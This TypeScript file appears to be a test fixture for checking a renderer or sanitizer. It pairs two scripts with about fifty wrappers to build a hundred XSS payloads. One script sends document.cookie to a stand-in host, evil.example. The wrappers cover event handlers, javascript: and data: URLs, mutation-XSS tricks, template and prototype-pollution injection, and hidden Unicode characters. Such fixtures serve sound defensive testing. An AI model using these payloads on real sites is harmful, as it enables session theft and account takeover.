/** What a hostile text would do if it were more than a text. */
const SCRIPTS = ['window.isHit=true', "fetch('https://evil.example/'+document.cookie)"]

/** Places in which a script could begin to run, by the mistakes that let it. */
const WRAPS: ((script: string) => string)[] = [
  // HTML
  (script) => `<script>${script}</script>`,
  (script) => `<ScRiPt >${script}</sCrIpT>`,
  (script) => `<scr<script>ipt>${script}</scr</script>ipt>`,
  (script) => `<script src="data:text/javascript,${script}"></script>`,
  (script) => `<img src=x onerror="${script}">`,
  (script) => `<img/src=x/onerror=${script}>`,
  (script) => `<IMG """><SCRIPT>${script}</SCRIPT>">`,
  (script) => `<svg onload="${script}">`,
  (script) => `<svg><animate onbegin="${script}" attributeName=x dur=1s>`,
  (script) => `<svg><a xlink:href="javascript:${script}"><text>x</text></a></svg>`,
  (script) => `<math><mtext><script>${script}</script></mtext></math>`,
  (script) => `<body onpageshow=${script}><input autofocus onfocus=${script}>`,
  (script) => `<details open ontoggle="${script}">x</details>`,
  (script) => `<video><source onerror="${script}"></video>`,
  (script) => `<audio src=x onerror=${script}>`,
  (script) => `<iframe src="javascript:${script}"></iframe>`,
  (script) => `"><iframe srcdoc="<script>parent.${script}</script>">`,
  (script) => `<object data="data:text/html,<script>${script}</script>">`,
  (script) => `<embed src="javascript:${script}">`,
  (script) => `<form action="javascript:${script}"><button>x</button></form>`,
  (script) => `<button popovertarget=x onbeforetoggle="${script}">x</button>`,
  (script) => `<link rel=stylesheet href="https://evil.example/?${script}">`,
  (script) => `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
  (script) => `<base href="https://evil.example/"><i title="${script}">`,
  (script) => `<style>*{background:url("https://evil.example/?${script}")}</style>`,
  (script) => `<template shadowrootmode=open><script>${script}</script></template>`,
  (script) => `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  (script) => `<!--><img src=x onerror=${script}>-->`,
  (script) => `<![CDATA[<script>${script}</script>]]>`,
  (script) => `&lt;script&gt;${script}&lt;/script&gt;`,
  (script) => `&#60;img src=x onerror=${script}&#62;`,
  // attributes and links
  (script) => `javascript:${script}`,
  (script) => `JaVaScRiPt:${script}`,
  (script) => `java\tscript:${script}`,
  (script) => `data:text/html,<script>${script}</script>`,
  (script) => `vbscript:${script}`,
  (script) => `https://a.example/"onmouseover="${script}`,
  (script) => `https://a.example/'><img src=x onerror=${script}>`,
  (script) => `https://javascript:${script}@a.example/`,
  (script) => `[click](javascript:${script})`,
  (script) => `<a href="data:text/html,<script>${script}</script>">click</a>`,
  // the marks of the platform, and templates
  (script) => `*<b onclick="${script}">bold</b>*`,
  (script) => `_*~<img src=x onerror=${script}>~*_`,
  (script) => `\`\`\`</code><script>${script}</script>\`\`\``,
  (script) => `{{constructor.constructor('${script}')()}}`,
  (script) => `\${${script}}`,
  (script) => `{"__proto__":{"isHit":true},"dangerouslySetInnerHTML":{"__html":"${script}"}}`,
  // characters that hide or turn what stands around them
  (script) => `\u202e<script>${script}</script>\u0000`,
  (script) => `\u2028</script><script>${script}</script>`,
  (script) => `\ufeff\u200b<img src=x onerror=${script}>`,
]

/** A hundred hostile texts. */
export const HOSTILE: readonly string[] = SCRIPTS.flatMap((script) =>
  WRAPS.map((wrap) => wrap(script)),
)
